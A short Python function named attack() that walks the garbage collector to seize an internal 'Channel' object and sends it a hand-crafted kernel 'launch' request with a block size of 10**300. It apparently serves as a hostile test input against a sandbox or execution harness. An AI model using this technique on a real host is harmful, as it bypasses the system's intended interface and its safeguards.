def attack():
    import gc, json, os
    channel = next(o for o in gc.get_objects() if type(o).__name__ == "Channel")
    channel.ask({"op": "launch", "kernel": "kernel", "captured": {}, "args": [], "named": {}, "blocks": {"v": 10**300}})
